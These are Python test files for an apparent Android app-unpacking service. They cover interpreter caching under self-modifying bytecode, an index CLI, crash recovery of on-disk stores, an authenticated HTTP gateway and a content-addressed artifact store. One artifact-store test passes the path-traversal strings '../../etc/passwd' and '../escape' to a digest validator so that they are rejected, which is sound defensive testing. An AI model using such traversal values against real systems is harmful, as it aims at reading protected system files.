.method public static run()I
    .registers 2
    const/4 v1, 0
    :again
    const/4 v0, 0
    invoke-static {}, Lt/P;->tamper()V
    if-nez v1, :done
    const/4 v1, 1
    goto :again
    :done
    return v0
.end method

.method public static native tamper()V
.end method
"""


def _install(runtime: AndroidRuntime, smali: str, main: str) -> None:
    dex = assemble(smali)
    runtime.install_apk(Apk("t.cache", main, [dex]))


def _method(runtime: AndroidRuntime, class_desc: str, name: str):
    klass = runtime.class_linker.lookup(class_desc)
    for method in klass.methods.values():
        if method.ref.name == name:
            return method
    raise AssertionError(f"no method {name} on {class_desc}")


class TestWarmCache:
    def test_second_run_reuses_decoded_instructions(self, runtime):
        assert run_method(runtime, _LOOP, "Lt/Warm;->sum(I)I", 4) == 10
        method = _method(runtime, "Lt/Warm;", "sum")
        cache = method.code.insns.predecode
        assert cache, "predecode cache never populated"
        first = {pc: entry[1] for pc, entry in cache.items()}
        assert runtime.call("Lt/Warm;->sum(I)I", 5) == 15
        # No mutation happened: every cached Instruction object survives.
        for pc, entry in cache.items():
            assert entry[1] is first[pc]

    def test_entries_match_live_units(self, runtime):
        run_method(runtime, _LOOP, "Lt/Warm;->sum(I)I", 3)
        method = _method(runtime, "Lt/Warm;", "sum")
        units = method.code.insns
        for pc, entry in units.predecode.items():
            generation, ins, handler, count, raw = entry
            assert generation == units.generation
            assert tuple(units[pc:pc + count]) == raw
            assert ins == Instruction.decode_at(units, pc)
            assert handler is _DISPATCH[ins.opcode.value]

    def test_fast_and_reference_agree_on_result_and_steps(self):
        fast = AndroidRuntime()
        ref = AndroidRuntime()
        ref.interpreter = Interpreter(ref, fast_path=False)
        for rt in (fast, ref):
            _install(rt, _LOOP, "Lt/Warm;")
        assert fast.call("Lt/Warm;->sum(I)I", 100) == ref.call(
            "Lt/Warm;->sum(I)I", 100
        )
        assert fast.steps == ref.steps


class TestSelfModificationInvalidation:
    def _run_selfpatch(self, runtime: AndroidRuntime) -> int:
        _install(runtime, _SELFPATCH, "Lt/P;")
        patched = {"done": False}

        def tamper(ctx):
            if not patched["done"]:
                patched["done"] = True
                ctx.patch_code(
                    "Lt/P;->run()I", 1, Instruction.make("const/4", 0, 7).encode()
                )

        runtime.natives.register("Lt/P;->tamper()V", tamper)
        return runtime.call("Lt/P;->run()I")

    def test_midrun_patch_observed_on_next_fetch(self, runtime):
        assert self._run_selfpatch(runtime) == 7

    def test_midrun_patch_observed_by_reference_interpreter(self):
        runtime = AndroidRuntime()
        runtime.interpreter = Interpreter(runtime, fast_path=False)
        assert self._run_selfpatch(runtime) == 7

    def test_patch_invalidates_exactly_the_rewritten_entry(self, runtime):
        self._run_selfpatch(runtime)
        method = _method(runtime, "Lt/P;", "run")
        units = method.code.insns
        before = {pc: entry[1] for pc, entry in units.predecode.items()}
        # Patch pc 1 again (7 -> 3) and re-run: only pc 1 re-decodes.
        units[1:2] = Instruction.make("const/4", 0, 3).encode()
        assert runtime.call("Lt/P;->run()I") == 3
        after = units.predecode
        for pc, ins in before.items():
            if pc == 1:
                assert after[pc][1] is not ins
                assert after[pc][1].operands == (0, 3)
            else:
                assert after[pc][1] is ins, f"pc {pc} was needlessly re-decoded"

    def test_patch_between_runs_observed_at_any_cache_state(self, runtime):
        run_method(runtime, _LOOP, "Lt/Warm;->sum(I)I", 4)
        method = _method(runtime, "Lt/Warm;", "sum")
        # Rewrite the warm-cached add-int (pc 3) into sub-int in place.
        old = Instruction.decode_at(method.code.insns, 3)
        assert old.name == "add-int"
        method.code.insns[3:5] = Instruction.make(
            "sub-int", *old.operands
        ).encode()
        # sum(2): 0 - 2 - 1 = -3 under sub-int.
        assert runtime.call("Lt/Warm;->sum(I)I", 2) == -3

    def test_wholesale_insns_replacement_gets_fresh_cache(self, runtime):
        run_method(runtime, _LOOP, "Lt/Warm;->sum(I)I", 4)
        method = _method(runtime, "Lt/Warm;", "sum")
        stale_cache = method.code.insns.predecode
        method.code.insns = list(method.code.insns)  # replace, same bytes
        assert method.code.insns.predecode is not stale_cache
        assert runtime.call("Lt/Warm;->sum(I)I", 4) == 10

    def test_plain_list_injection_falls_back_to_live_decode(self, runtime):
        run_method(runtime, _LOOP, "Lt/Warm;->sum(I)I", 4)
        method = _method(runtime, "Lt/Warm;", "sum")
        # Bypass CodeItem.__setattr__ entirely: a bare list has no
        # generation to trust, so the interpreter must decode per step.
        object.__setattr__(method.code, "insns", list(method.code.insns))
        before = runtime.steps
        assert runtime.call("Lt/Warm;->sum(I)I", 6) == 21
        fallback_steps = runtime.steps - before
        # Step parity: the fallback hand-off must not double-count the
        # step it bailed on.
        reference = AndroidRuntime()
        reference.interpreter = Interpreter(reference, fast_path=False)
        _install(reference, _LOOP, "Lt/Warm;")
        before = reference.steps
        assert reference.call("Lt/Warm;->sum(I)I", 6) == 21
        assert fallback_steps == reference.steps - before


class TestOpcodeValueDispatch:
    def test_value_table_mirrors_name_table(self):
        for info in OPCODES.values():
            assert _DISPATCH[info.value] is _HANDLERS.get(info.name)

    def test_every_opcode_has_a_handler(self):
        missing = [
            info.name for info in OPCODES.values() if _DISPATCH[info.value] is None
        ]
        assert missing == []

    def test_unassigned_values_have_no_handler(self):
        assigned = {info.value for info in OPCODES.values()}
        for value in set(range(256)) - assigned:
            assert _DISPATCH[value] is None
