"""The ``index`` CLI group: build / query / stats and their guards."""

import json
import os

from repro.core import CollectStage, RevealConfig
from repro.dex import assemble
from repro.index.corpus import INDEX_FORMAT_VERSION
from repro.runtime import Apk
from repro.service.cli import main

_SIG = "Lg/App;->onCreate(Landroid/os/Bundle;)V"


def _archive_dir(tmp_path, name="archive") -> str:
    apk = Apk("g.app", "Lg/App;", [assemble("""
.class public Lg/App;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    const/4 v0, 0
    const/16 v1, 7
    add-int v0, v0, v1
    return-void
.end method
""")])
    config = RevealConfig(use_force_execution=True, force_iterations=2)
    result = CollectStage(config).run(apk)
    directory = str(tmp_path / name)
    result.archive.save(directory)
    return directory


class TestIndexGuards:
    def test_stats_on_missing_index_exits_two(self, tmp_path, capsys):
        path = str(tmp_path / "nowhere")
        assert main(["index", "stats", "--index-dir", path]) == 2
        captured = capsys.readouterr()
        assert "no corpus index at" in captured.err
        assert len(captured.err.strip().splitlines()) == 1
        assert not os.path.exists(path)  # read-only commands never create

    def test_query_on_missing_index_exits_two(self, tmp_path, capsys):
        assert main(["index", "query",
                     "--index-dir", str(tmp_path / "nope"),
                     "--signature", _SIG]) == 2
        assert "no corpus index at" in capsys.readouterr().err

    def test_missing_subcommand_exits_two(self, capsys):
        assert main(["index"]) == 2
        assert "usage" in capsys.readouterr().err

    def test_foreign_index_version_exits_two(self, tmp_path, capsys):
        root = tmp_path / "idx"
        root.mkdir()
        (root / "index_meta.json").write_text(
            json.dumps({"version": INDEX_FORMAT_VERSION + 1}))
        assert main(["index", "stats", "--index-dir", str(root)]) == 2
        captured = capsys.readouterr()
        assert "format version" in captured.err
        assert len(captured.err.strip().splitlines()) == 1

    def test_build_on_missing_archive_exits_two(self, tmp_path, capsys):
        code = main(["index", "build",
                     "--index-dir", str(tmp_path / "idx"),
                     str(tmp_path / "no-archive")])
        assert code == 2
        assert "archive" in capsys.readouterr().err


class TestIndexBuildQueryStats:
    def test_build_then_stats_then_query(self, tmp_path, capsys):
        archive = _archive_dir(tmp_path)
        index_dir = str(tmp_path / "idx")

        assert main(["index", "build", "--index-dir", index_dir,
                     "--app-id", "g.app", archive]) == 0
        out = capsys.readouterr().out
        assert "registered g.app" in out
        assert "index now holds" in out

        assert main(["index", "stats", "--index-dir", index_dir,
                     "--json"]) == 0
        stats = json.loads(capsys.readouterr().out)
        assert stats["methods"] >= 1
        assert stats["apps"] == 1
        assert stats["version"] == INDEX_FORMAT_VERSION

        assert main(["index", "query", "--index-dir", index_dir,
                     "--signature", _SIG]) == 0
        out = capsys.readouterr().out
        assert "g.app" in out and _SIG in out

    def test_query_round_trips_by_digest(self, tmp_path, capsys):
        archive = _archive_dir(tmp_path)
        index_dir = str(tmp_path / "idx")
        assert main(["index", "build", "--index-dir", index_dir,
                     "--app-id", "g.app", "--json", archive]) == 0
        build = json.loads(capsys.readouterr().out)
        assert build["registered"][0]["corpus_new"] >= 1

        assert main(["index", "query", "--index-dir", index_dir,
                     "--signature", _SIG, "--json"]) == 0
        results = json.loads(capsys.readouterr().out)["results"]
        assert len(results) == 1
        exact = results[0]["exact"]

        assert main(["index", "query", "--index-dir", index_dir,
                     "--exact", exact]) == 0
        assert _SIG in capsys.readouterr().out

    def test_query_with_no_matches_says_so(self, tmp_path, capsys):
        archive = _archive_dir(tmp_path)
        index_dir = str(tmp_path / "idx")
        assert main(["index", "build", "--index-dir", index_dir,
                     archive]) == 0
        capsys.readouterr()
        assert main(["index", "query", "--index-dir", index_dir,
                     "--exact", "0" * 64]) == 0
        assert "no matches" in capsys.readouterr().out

    def test_query_selector_contract(self, tmp_path, capsys):
        archive = _archive_dir(tmp_path)
        index_dir = str(tmp_path / "idx")
        assert main(["index", "build", "--index-dir", index_dir,
                     archive]) == 0
        capsys.readouterr()

        # Two selectors at once: refused.
        assert main(["index", "query", "--index-dir", index_dir,
                     "--exact", "0" * 64, "--signature", _SIG]) == 2
        assert "exactly one" in capsys.readouterr().err

        # A malformed fuzzy digest: one-line refusal, no traceback.
        assert main(["index", "query", "--index-dir", index_dir,
                     "--nearest", "zz"]) == 2
        assert "bad digest" in capsys.readouterr().err

    def test_rebuild_is_idempotent(self, tmp_path, capsys):
        archive = _archive_dir(tmp_path)
        index_dir = str(tmp_path / "idx")
        for _ in range(2):
            assert main(["index", "build", "--index-dir", index_dir,
                         "--app-id", "g.app", archive]) == 0
        capsys.readouterr()
        assert main(["index", "stats", "--index-dir", index_dir,
                     "--json"]) == 0
        stats = json.loads(capsys.readouterr().out)
        assert stats["apps"] == 1  # duplicate entries collapsed
