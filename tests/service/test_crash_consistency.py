"""Crash-consistency sweep: every persistent store reopens cleanly
after torn ``.tmp`` debris, truncated JSONL tails, and zero-byte
records — and *reports* what it skipped instead of silently absorbing
the damage."""

import json
import os

import pytest

from repro.cluster.store import ClusterMember, ClusterStore
from repro.index.corpus import CorpusIndex, IndexEntry
from repro.service import ArtifactStore, JobStore, RevealCache
from repro.service.outcomes import STATUS_OK, RevealOutcome

from tests.conftest import build_simple_apk

TORN_TMP = "torn-tmp"
TRUNCATED = "truncated-line"
ZERO_BYTE = "zero-byte"

DAMAGE = (TORN_TMP, TRUNCATED, ZERO_BYTE)


def _entry(i: int) -> IndexEntry:
    return IndexEntry(kind="method", app_id=f"app{i}",
                      class_desc=f"LC{i};", method=f"LC{i};->m()V",
                      exact=f"e{i:03d}", norm=f"n{i:03d}", fuzzy=None)


def _member(i: int) -> ClusterMember:
    return ClusterMember(kind="method", app_id=f"app{i}",
                         class_desc=f"LC{i};", method=f"LC{i};->m()V",
                         norm=f"n{i:03d}", fuzzy=None)


def _jsonl_files(root: str) -> list[str]:
    found = []
    for dirpath, _dirs, names in os.walk(root):
        found.extend(os.path.join(dirpath, n) for n in names
                     if n.endswith(".jsonl"))
    return sorted(found)


class TestJobStore:
    @pytest.mark.parametrize("damage", DAMAGE)
    def test_reopens_and_reports(self, tmp_path, damage):
        root = str(tmp_path / "store")
        store = JobStore(root)
        apk = build_simple_apk("crash.jobs")
        for job_id in ("j1", "j2"):
            store.save(store.make_record(job_id=job_id, app_id=job_id,
                                         apk=apk))
        store.append_event({"kind": "submitted", "job_id": "j1"})

        if damage == TORN_TMP:
            with open(os.path.join(store.jobs_dir, "j1.json.tmp"),
                      "w") as fh:
                fh.write('{"half')
        elif damage == TRUNCATED:
            with open(store.events_path, "a") as fh:
                fh.write('{"kind": "done", "job_')
        else:
            open(os.path.join(store.jobs_dir, "j3.json"), "w").close()

        reopened = JobStore(root)
        records = {r["job_id"] for r in reopened.load_all()}
        assert records == {"j1", "j2"}
        assert reopened.load("j1")["app_id"] == "j1"
        events = reopened.events()
        assert [e["kind"] for e in events] == ["submitted"]
        if damage == TRUNCATED:
            assert reopened.corrupt_event_lines == 1
        elif damage == ZERO_BYTE:
            assert reopened.corrupt_records == 1


class TestArtifactStore:
    @pytest.mark.parametrize("damage", DAMAGE)
    def test_reopens_and_reports(self, tmp_path, damage):
        root = str(tmp_path / "artifacts")
        store = ArtifactStore(root)
        good = store.put(b"intact payload")
        victim = store.put(b"about to be damaged")
        path = store._path(victim)

        if damage == TORN_TMP:
            with open(f"{path}.999.tmp", "wb") as fh:
                fh.write(b"deb")
        elif damage == TRUNCATED:
            with open(path, "wb") as fh:
                fh.write(b"about to")
        else:
            open(path, "w").close()

        reopened = ArtifactStore(root, create=False)
        assert reopened.get(good) == b"intact payload"
        if damage == TORN_TMP:
            # Debris next to a blob never hides the blob itself.
            assert reopened.get(victim) == b"about to be damaged"
            assert reopened.corrupt_blobs == 0
        else:
            # Bytes that no longer rehash to the digest are refused,
            # and the refusal is counted.
            assert reopened.get(victim) is None
            assert reopened.corrupt_blobs == 1
            assert reopened.stats()["corrupt_blobs"] == 1


class TestCorpusIndex:
    @pytest.mark.parametrize("damage", DAMAGE)
    def test_reopens_and_reports(self, tmp_path, damage):
        root = str(tmp_path / "index")
        index = CorpusIndex(root)
        for i in range(3):
            index.add_entry(_entry(i))
        index.put_body("e000", [["const", 0]])
        index.close()
        segment = _jsonl_files(os.path.join(root, "segments"))[0]

        if damage == TORN_TMP:
            body = os.path.join(root, "bodies", "e000.json")
            with open(f"{body}.w.tmp", "w") as fh:
                fh.write('{"version"')
            with open(body, "w") as fh:
                fh.write('{"version"')  # torn body write made visible
        elif damage == TRUNCATED:
            with open(segment, "a") as fh:
                fh.write('{"kind": "method", "app')
        else:
            open(segment + ".empty.jsonl", "w").close()

        reopened = CorpusIndex(root, create=False)
        assert {e.app_id for e in reopened.entries()} == \
               {"app0", "app1", "app2"}
        if damage == TRUNCATED:
            assert reopened.corrupt_lines == 1
            assert reopened.stats()["corrupt_lines"] == 1
        else:
            assert reopened.corrupt_lines == 0
        if damage == TORN_TMP:
            # An unreadable body is a miss, never a crash.
            assert reopened.get_body("e000") is None


class TestClusterStore:
    @pytest.mark.parametrize("damage", DAMAGE)
    def test_reopens_and_reports(self, tmp_path, damage):
        root = str(tmp_path / "cluster")
        store = ClusterStore(root)
        for i in range(3):
            store.add_member(_member(i))
        store.close()
        segment = _jsonl_files(os.path.join(root, "segments"))[0]

        if damage == TORN_TMP:
            with open(os.path.join(root, "families.json"), "w") as fh:
                fh.write('{"version": 1, "fam')  # torn snapshot
        elif damage == TRUNCATED:
            with open(segment, "a") as fh:
                fh.write('{"kind": "method", "app')
        else:
            open(segment + ".empty.jsonl", "w").close()

        reopened = ClusterStore(root, create=False)
        assert {m.app_id for m in reopened.members()} == \
               {"app0", "app1", "app2"}
        if damage in (TORN_TMP, TRUNCATED):
            assert reopened.corrupt_lines == 1
            assert reopened.stats()["corrupt_lines"] == 1
        if damage == TORN_TMP:
            assert reopened.families() is None


class TestDiskRevealCache:
    def _put_one(self, root: str, key: str) -> None:
        cache = RevealCache(root)
        cache.put(key, RevealOutcome(app_id="a", status=STATUS_OK))

    @pytest.mark.parametrize("damage", DAMAGE)
    def test_reopens_and_reports(self, tmp_path, damage):
        root = str(tmp_path / "cache")
        self._put_one(root, "good")
        self._put_one(root, "victim")
        victim_json = os.path.join(root, "victim.json")

        if damage == TORN_TMP:
            with open(victim_json + ".tmp", "w") as fh:
                fh.write('{"ver')
            with open(victim_json, "w") as fh:
                fh.write('{"ver')
        elif damage == TRUNCATED:
            with open(victim_json, "a") as fh:
                fh.write('{"tail')
        else:
            open(victim_json, "w").close()

        reopened = RevealCache(root)
        hit = reopened.get("good")
        assert hit is not None and hit.status == STATUS_OK
        assert reopened.get("victim") is None  # a miss, never an error
        assert reopened.corrupt_entries == 1
