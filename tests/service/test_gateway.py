"""RevealGateway end to end: HTTP submit → worker fleet → artifacts."""

import json
import threading
import urllib.request

import pytest

from repro.service import (
    ARTIFACT_REVEALED_APK,
    EVENT_DONE,
    EVENT_SUBMITTED,
    STATUS_OK,
    BatchRevealService,
    GatewayClient,
    GatewayError,
    JobStore,
    RevealGateway,
    RevealJob,
    RevealWorker,
    TERMINAL_EVENTS,
    artifact_digest,
)

from tests.conftest import build_simple_apk


def _store(tmp_path) -> JobStore:
    return JobStore(str(tmp_path / "store"))


def _job(app_id, package=None):
    return RevealJob(app_id=app_id,
                     apk=build_simple_apk(package or f"gw.{app_id}"))


def _drain(store, *, worker_id="w1", jobs=8, linger_s=3.0):
    worker = RevealWorker(store, worker_id=worker_id, workers=1,
                          poll_interval_s=0.05)
    return worker.run(max_jobs=jobs, linger_s=linger_s)


class TestEndToEnd:
    def test_http_reveal_byte_identical_to_in_process(self, tmp_path):
        # The acceptance path: submit over HTTP, let two fleet workers
        # race the queue, and diff the remote outcome — and the fetched
        # artifact — against an in-process reveal of the same APK.
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url, poll_interval_s=0.05)
            handles = client.submit_many([_job("e2e.a"), _job("e2e.b")])

            threads = [
                threading.Thread(target=_drain, args=(store,),
                                 kwargs={"worker_id": f"w{i}"})
                for i in range(2)
            ]
            for t in threads:
                t.start()
            outcomes = client.await_many(handles, timeout=120)
            for t in threads:
                t.join()

            assert [o.app_id for o in outcomes] == ["e2e.a", "e2e.b"]
            local = BatchRevealService(workers=1)
            for outcome, handle in zip(outcomes, handles):
                assert outcome.status == STATUS_OK
                remote_bytes = outcome.revealed_apk.to_bytes()
                reference = local.reveal_one(_job(handle.app_id))
                assert remote_bytes == reference.revealed_apk.to_bytes()
                # The artifact endpoint serves the identical bytes.
                digest = client.job(handle.job_id)["artifacts"][
                    ARTIFACT_REVEALED_APK]
                assert client.fetch_artifact(digest) == remote_bytes
                assert digest == artifact_digest(remote_bytes)

    def test_job_digest_matches_handle_to_dict_shape(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url)
            handle = client.submit(_job("shape"))
            data = client.job(handle.job_id)
            # One serialization everywhere: the gateway returns exactly
            # JobHandle.to_dict(), same keys as the status CLI rows.
            assert set(data) == set(handle.to_dict())
            assert data["state"] == "queued"
            assert data["app_id"] == "shape"

    def test_events_list_and_follow_stream(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url, poll_interval_s=0.05)
            handle = client.submit(_job("events"))
            follower_kinds = []

            def follow():
                for event in client.events(handle.job_id, follow=True,
                                           timeout=60):
                    follower_kinds.append(event.kind)
                    if event.kind in TERMINAL_EVENTS:
                        return

            follower = threading.Thread(target=follow)
            follower.start()
            _drain(store)
            handle.wait(timeout=120)
            follower.join(timeout=60)
            assert not follower.is_alive()
            assert follower_kinds[0] == EVENT_SUBMITTED
            assert follower_kinds[-1] == EVENT_DONE
            # The one-shot list agrees with the live stream.
            kinds = [e.kind for e in client.events(handle.job_id)]
            assert kinds == follower_kinds

    def test_cancel_queued_job_via_http(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url)
            handle = client.submit(_job("doomed"))
            assert client.cancel(handle.job_id) is True
            assert client.cancel(handle.job_id) is False  # already terminal
            assert client.cancel("no-such-job") is False
            assert client.poll(handle.job_id).state == "cancelled"


class TestSubmitGuards:
    def test_idempotency_key_deduplicates(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url)
            first = client.submit(_job("idem"), idempotency_key="k-1")
            second = client.submit(_job("idem"), idempotency_key="k-1")
            assert second.job_id == first.job_id
            assert len(store.load_all()) == 1
            other = client.submit(_job("idem"), idempotency_key="k-2")
            assert other.job_id != first.job_id

    def test_bad_apk_rejected_400(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            url = gateway.url + "/v1/jobs"
            body = json.dumps({"app_id": "junk",
                               "apk_b64": "AAAA"}).encode()
            request = urllib.request.Request(
                url, data=body, method="POST",
                headers={"Content-Type": "application/json"})
            with pytest.raises(urllib.error.HTTPError) as err:
                urllib.request.urlopen(request, timeout=10)
            assert err.value.code == 400
            assert store.load_all() == []

    def test_bad_priority_rejected_400(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url)
            with pytest.raises(ValueError):
                client.submit(_job("p"), priority="ludicrous")
            # A raw request with a junk lane is the gateway's 400.
            body = json.dumps({
                "app_id": "p",
                "apk_b64": JobStore.encode_apk(build_simple_apk("gw.p")),
                "priority": "ludicrous",
            }).encode()
            request = urllib.request.Request(
                gateway.url + "/v1/jobs", data=body, method="POST",
                headers={"Content-Type": "application/json"})
            with pytest.raises(urllib.error.HTTPError) as err:
                urllib.request.urlopen(request, timeout=10)
            assert err.value.code == 400

    def test_oversize_upload_rejected_413(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store, max_upload_bytes=64) as gateway:
            client = GatewayClient(gateway.url)
            with pytest.raises(GatewayError) as err:
                client.submit(_job("big"))
            assert err.value.status == 413


class TestTenancy:
    def test_unknown_token_is_401(self, tmp_path):
        store = _store(tmp_path)
        tenants = {"sesame": "alice"}
        with RevealGateway(store, tenants=tenants) as gateway:
            for client in (GatewayClient(gateway.url),
                           GatewayClient(gateway.url, token="wrong")):
                with pytest.raises(GatewayError) as err:
                    client.submit(_job("auth"))
                assert err.value.status == 401
            trusted = GatewayClient(gateway.url, token="sesame")
            handle = trusted.submit(_job("auth"))
            assert store.load(handle.job_id)["meta"]["tenant"] == "alice"

    def test_rate_limit_is_429(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store, rate_limit_per_min=2) as gateway:
            client = GatewayClient(gateway.url)
            client.submit(_job("r1"))
            client.submit(_job("r2"))
            with pytest.raises(GatewayError) as err:
                client.submit(_job("r3"))
            assert err.value.status == 429

    def test_active_job_quota_is_429(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store, max_active_per_tenant=1) as gateway:
            client = GatewayClient(gateway.url)
            client.submit(_job("q1"))
            with pytest.raises(GatewayError) as err:
                client.submit(_job("q2"))
            assert err.value.status == 429


class TestReadEndpoints:
    def test_unknown_job_404(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url)
            with pytest.raises(KeyError):
                client.poll("nope")
            with pytest.raises(GatewayError) as err:
                client.job("nope")
            assert err.value.status == 404

    def test_artifact_guards(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url)
            assert client.fetch_artifact(artifact_digest(b"gone")) is None
            with pytest.raises(GatewayError) as err:
                client.fetch_artifact("not-a-digest")
            assert err.value.status == 400

    def test_healthz_and_stats(self, tmp_path):
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            url = gateway.url
            client = GatewayClient(url)
            assert client.healthz() is True
            client.submit(_job("s1"))
            stats = client.stats()
            assert stats["jobs"]["queued"] == 1
            assert stats["workers"] == []
            # The index/cluster counters exist (zeroed) even before any
            # worker with those dirs attached has run.
            assert stats["index"] == {"apps_indexed": 0,
                                      "bodies_emitted": 0,
                                      "bodies_replayed": 0}
            assert stats["cluster"] == {"apps_labeled": 0,
                                        "labels_assigned": 0}
        # A closed gateway reads unhealthy, not an exception.
        assert GatewayClient(url, request_timeout_s=2).healthz() is False

    def test_stats_aggregate_index_and_cluster_counters(self, tmp_path):
        # Workers attached to an index + cluster store feed per-job
        # outcome summaries back through the job store; /v1/stats rolls
        # them up fleet-wide.
        store = _store(tmp_path)
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url, poll_interval_s=0.05)
            handles = client.submit_many([_job("ix.a"), _job("ix.b")])
            worker = RevealWorker(store, worker_id="wx",
                                  workers=1, poll_interval_s=0.05,
                                  index_dir=str(tmp_path / "idx"),
                                  cluster_dir=str(tmp_path / "fam"))
            worker.run(max_jobs=2, linger_s=3.0)
            client.await_many(handles, timeout=120)

            stats = client.stats()
            assert stats["index"]["apps_indexed"] == 2
            assert stats["index"]["bodies_emitted"] + \
                stats["index"]["bodies_replayed"] > 0
            assert stats["cluster"]["apps_labeled"] == 2
            # The second app's methods were known from the first.
            assert stats["cluster"]["labels_assigned"] >= 1
