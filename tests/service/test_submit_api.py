"""One submit/await protocol across server, batch service and HTTP client."""

import warnings

import pytest

from repro.service import (
    STATUS_OK,
    BatchRevealService,
    GatewayClient,
    RevealJob,
    RevealServer,
    SubmitAPI,
)

from tests.conftest import build_simple_apk


def _job(app_id, package=None):
    return RevealJob(app_id=app_id,
                     apk=build_simple_apk(package or f"api.{app_id}"))


class TestOneProtocol:
    def test_every_front_end_implements_submit_api(self):
        for cls in (RevealServer, BatchRevealService, GatewayClient):
            assert issubclass(cls, SubmitAPI)

    def test_protocol_core_is_abstract(self):
        with pytest.raises(TypeError):
            SubmitAPI()
        for name in ("submit", "poll", "cancel", "handles"):
            assert getattr(SubmitAPI, name).__isabstractmethod__

    def test_submit_many_await_many_shared_loop(self):
        # The batched helpers live on the protocol, so every front end
        # inherits one submission loop instead of re-implementing it.
        assert "submit_many" not in RevealServer.__dict__
        assert "submit_many" not in BatchRevealService.__dict__
        assert "await_many" not in GatewayClient.__dict__
        with RevealServer(workers=2) as server:
            handles = server.submit_many([_job("a1"), _job("a2")])
            outcomes = server.await_many(handles, timeout=60)
        assert [o.app_id for o in outcomes] == ["a1", "a2"]
        assert all(o.status == STATUS_OK for o in outcomes)


class TestDeprecatedShims:
    def test_server_submit_all_await_all_warn_but_work(self):
        with RevealServer(workers=2) as server:
            with pytest.warns(DeprecationWarning, match="submit_many"):
                handles = server.submit_all([_job("d1")])
            with pytest.warns(DeprecationWarning, match="await_many"):
                outcomes = server.await_all(handles, timeout=60)
        assert [o.app_id for o in outcomes] == ["d1"]
        assert outcomes[0].status == STATUS_OK

    def test_batch_service_shims_warn_but_work(self):
        service = BatchRevealService(workers=2)
        with pytest.warns(DeprecationWarning):
            handles = service.submit_all([_job("b1")])
        with pytest.warns(DeprecationWarning):
            outcomes = service.await_all(handles, timeout=60)
        assert [o.app_id for o in outcomes] == ["b1"]
        assert outcomes[0].status == STATUS_OK

    def test_new_names_do_not_warn(self):
        service = BatchRevealService(workers=2)
        with warnings.catch_warnings():
            warnings.simplefilter("error", DeprecationWarning)
            handles = service.submit_many([_job("c1")])
            outcomes = service.await_many(handles, timeout=60)
        assert outcomes[0].status == STATUS_OK
