"""Content-addressed ArtifactStore: digests, dedup, atomicity."""

import hashlib
import os

import pytest

from repro.service import ArtifactStore, artifact_digest, is_artifact_digest


class TestDigest:
    def test_digest_is_sha256_hex(self):
        payload = b"reveal me"
        assert artifact_digest(payload) == hashlib.sha256(payload).hexdigest()

    def test_is_artifact_digest_guards_shapes(self):
        good = artifact_digest(b"x")
        assert is_artifact_digest(good)
        assert not is_artifact_digest(good.upper())
        assert not is_artifact_digest(good[:-1])
        assert not is_artifact_digest(good + "0")
        assert not is_artifact_digest("../../etc/passwd")
        assert not is_artifact_digest("")


class TestStore:
    def test_put_get_roundtrip(self, tmp_path):
        store = ArtifactStore(str(tmp_path / "artifacts"))
        digest = store.put(b"payload-bytes")
        assert digest == artifact_digest(b"payload-bytes")
        assert store.get(digest) == b"payload-bytes"
        assert digest in store
        assert store.size(digest) == len(b"payload-bytes")

    def test_put_is_idempotent_and_deduplicates(self, tmp_path):
        store = ArtifactStore(str(tmp_path / "artifacts"))
        first = store.put(b"same bytes")
        second = store.put(b"same bytes")
        assert first == second
        assert store.stats()["artifacts"] == 1

    def test_sharded_layout_keeps_directories_small(self, tmp_path):
        root = tmp_path / "artifacts"
        store = ArtifactStore(str(root))
        digest = store.put(b"sharded")
        assert (root / digest[:2] / digest).is_file()

    def test_get_absent_returns_none(self, tmp_path):
        store = ArtifactStore(str(tmp_path / "artifacts"))
        missing = artifact_digest(b"never stored")
        assert store.get(missing) is None
        assert missing not in store
        assert store.size(missing) is None

    def test_malformed_digest_treated_as_absent(self, tmp_path):
        # Path-traversal shapes never touch the filesystem: the digest
        # guard rejects them before a path is built.
        store = ArtifactStore(str(tmp_path / "artifacts"))
        assert store.get("../escape") is None
        assert "../escape" not in store
        assert store.size("../escape") is None

    def test_missing_root_requires_create(self, tmp_path):
        root = str(tmp_path / "absent")
        with pytest.raises(FileNotFoundError):
            ArtifactStore(root, create=False)
        ArtifactStore(root)
        assert os.path.isdir(root)

    def test_stats_counts_bytes_and_skips_tmp_droppings(self, tmp_path):
        root = tmp_path / "artifacts"
        store = ArtifactStore(str(root))
        store.put(b"aaaa")
        store.put(b"bbbbbb")
        shard = next(p for p in root.iterdir() if p.is_dir())
        (shard / "half-written.tmp").write_bytes(b"junk")
        stats = store.stats()
        assert stats["artifacts"] == 2
        assert stats["total_bytes"] == 10
