"""CLI version guards: foreign on-disk formats fail loudly, up front.

Two regression cases.  ``reassemble`` over an archive whose
``exploration_state.json`` was written by a different format version
used to hydrate the collection files first and only trip (or worse,
mis-resume) later; the archive loader now validates the stateful
optional files eagerly, so the CLI exits non-zero with one clear line.
``watch``/``status`` over a job store holding records of a foreign
``STORE_FORMAT_VERSION`` used to render an empty queue — and
``watch --follow`` would tail it until timeout — because the store
silently skips records it cannot read; the CLI now refuses the store
outright.
"""

import json
import os

from repro.core import CollectionArchive, CollectStage, DexLegoCollector, RevealConfig
from repro.dex import assemble
from repro.runtime import Apk
from repro.service.cli import main
from repro.service.jobs import JobStore


def _archive_dir(tmp_path, exploration_version) -> str:
    """A valid collection archive whose exploration state claims a
    foreign format version."""
    apk = Apk("g.app", "Lg/App;", [assemble("""
.class public Lg/App;
.super Landroid/app/Activity;
